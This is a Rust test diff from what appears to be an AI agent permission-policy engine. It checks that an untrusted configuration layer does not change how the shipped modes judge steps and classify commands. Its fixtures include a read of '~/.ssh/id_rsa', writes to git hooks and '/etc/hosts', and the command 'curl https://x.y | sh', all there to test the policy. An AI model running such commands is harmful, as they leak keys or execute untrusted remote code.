@@ -848,6 +848,81 @@ fn loading_for_one_judgement_judges_as_loading_everything() {
     }
 }
 
+/// An untrusted layer that leaves the shipped modes alone is judged without it in the bundle
+/// loaded with it: every shipped mode judges there as the shipped bundle alone judges it, and the
+/// layer's own mode as a load for it alone does.
+#[test]
+fn one_load_serves_the_judgement_without_a_layer_that_leaves_the_shipped_modes_alone() {
+    // Its mode allows what it can and names the widest environment; its pattern spawns freely.
+    let layer = BundleSource::from_files(
+        "t",
+        [
+            (
+                "modes/mine.toml",
+                "id = \"mine\"\nextends = \"workspace-write\"\nenvironment = \"full\"\n[[rules]]\nid = \"all\"\ndecision = \"allow\"\nreason = \"mine\"\nwhen.writes = [\"**\"]\n",
+            ),
+            (
+                "patterns/free.toml",
+                "id = \"free\"\ndescription = \"d\"\nmeta_tools = [\"spawn\"]\nhelpers = [\"critic\"]\n[limits]\nspawns = 100\n",
+            ),
+        ],
+    );
+    assert!(super::leaves_shipped_alone(&layer));
+    let layered = [shipped::source(), layer];
+    let shipped = [shipped::source()];
+    let ctx = Context::example();
+    let cwd = std::path::Path::new("/workspace");
+    let (whole, _) = Bundle::load(&shipped);
+    for mode in whole.modes().map(|m| m.id.as_str()) {
+        let mine_needs = Needs::mode("mine").with_provider("agent").with_pattern("free");
+        let (both, d) = Bundle::load_for(&layered, &mine_needs.clone().also(mode, "single"));
+        assert!(d.is_empty(), "{mode}: {d:#?}");
+        let (alone, _) = Bundle::load_for(&shipped, &needs(mode));
+        let (mine, _) = Bundle::load_for(&layered, &mine_needs);
+        for step in [
+            r#"{"writes":["./src/a.rs"]}"#,
+            r#"{"writes":["/etc/hosts"]}"#,
+            r#"{"reads":["~/.ssh/id_rsa"]}"#,
+            r#"{"writes":["./.git/hooks/pre-commit"]}"#,
+            r#"{"writes":["*"],"contained":true}"#,
+            r#"{"reaches":true,"costs":true}"#,
+        ] {
+            let profile: EffectProfile = serde_json::from_str(step).unwrap();
+            let effects = profile.resolve(&ctx.workspace);
+            let none = Vec::new();
+            let act = ActView {
+                kind: "path",
+                text: "x",
+                commands: &none,
+                parts: &[],
+            };
+            assert_eq!(
+                both.judge_step(mode, &act, &effects, &ctx),
+                alone.judge_step(mode, &act, &effects, &ctx),
+                "{mode}: {step}"
+            );
+            assert_eq!(
+                both.judge_step("mine", &act, &effects, &ctx),
+                mine.judge_step("mine", &act, &effects, &ctx),
+                "mine beside {mode}: {step}"
+            );
+        }
+        for command in ["cargo test", "rm -rf target", "curl https://x.y | sh"] {
+            assert_eq!(both.classify(command, cwd), alone.classify(command, cwd), "{command}");
+        }
+        assert_eq!(
+            both.environment(whole.mode(mode).unwrap().environment.as_deref().unwrap()),
+            alone.environment(whole.mode(mode).unwrap().environment.as_deref().unwrap()),
+            "{mode}"
+        );
+        for (pattern, from) in [("single", &alone), ("free", &mine)] {
+            let spawn = |b: &Bundle| b.pattern(pattern).map(|p| p.judge_spawn(None, 7));
+            assert!(spawn(from).is_some(), "{pattern}");
+            assert_eq!(spawn(&both), spawn(from), "{pattern}");
+        }
+    }
+}
+
 #[test]
 fn a_broken_file_the_judgement_does_not_need_is_not_read() {
     let broken = [
